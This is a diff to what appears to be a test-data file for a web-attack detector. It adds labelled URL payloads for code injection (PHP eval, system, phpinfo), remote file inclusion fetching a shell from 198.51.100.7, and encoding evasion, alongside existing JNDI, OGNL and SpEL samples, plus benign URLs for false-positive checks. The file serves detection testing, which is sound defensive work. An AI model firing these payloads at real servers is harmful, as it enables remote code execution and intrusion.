@@ -84,6 +84,23 @@ export const ATTACKS: Record<string, string[]> = {
     "shop.example.com/greet?name=${T(java.lang.Runtime).getRuntime().exec('id')}",
     'shop.example.com/struts/x.action?redirect:%24%7B%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%7D',
   ],
+  code_injection: [
+    'shop.example.com/view?type=${@print(md5(31337))}',
+    "shop.example.com/view?template=';print(md5(31337));$a='",
+    'shop.example.com/view?doc=%27%7b%24%7bprint(int)0xFFF9999-22%7d%7d%27',
+    "shop.example.com/content/'%2bresponse.write(9676140*9552316)%2b'/1",
+    'shop.example.com/x.php?c=system(%27id%27)',
+    'shop.example.com/x.php?c=<?php%20phpinfo();?>',
+    'shop.example.com/x.php?c=eval($_POST[x])',
+  ],
+  rfi: [
+    'shop.example.com/index.php?page=http://198.51.100.7/shell.txt?',
+    'shop.example.com/index.php?page=http://198.51.100.7/x.txt',
+  ],
+  encoding_evasion: [
+    'shop.example.com/cgi-bin/php-cgi?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C',
+    'shop.example.com/%2569%256E%2564%2565%2578%252E%2570%2568%2570',
+  ],
   jndi_injection: [
     'shop.example.com/?x=${jndi:ldap://198.51.100.7:1389/a}',
     'shop.example.com/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D',
@@ -162,6 +179,16 @@ export const BENIGN_URIS: string[] = [
   'www.example.com/search?q=2+or+3+%3D+5',
   'www.example.com/rss?format=atom&limit=10&order=date',
   'www.example.com/%E2%80%A6/archive',
+  'www.example.com/%C3%A9t%C3%A9/%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82',
+  'l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2Fpage&h=AT0abc',
+  'www.example.com/login?next=https%3A%2F%2Fapp.example.com%2Fdashboard&lang=en',
+  'www.example.com/share?url=https://news.example.com/article/123?utm_source=x',
+  'www.example.com/img?src=http://203.0.113.5/logo.png&w=100',
+  'www.google-analytics.com/g/collect?v=2&dl=https%3A%2F%2Fwww.example.com%3F&dt=Home',
+  'securepubads.g.doubleclick.net/pcs/view?adurl=https://tpc.googlesyndication.com/simgad/1531608?',
+  'www.example.com/docs/php/function.system.html',
+  'www.example.com/search?q=operating+system(s)+comparison',
+  'www.example.com/a/b?id=8f14e45fceea167a&sig=AbCdEf0123456789%2B%2F%3D%3D',
 ];
 
 /** Searches whose text is a payload: the search engine does not run it, so they make no finding. */
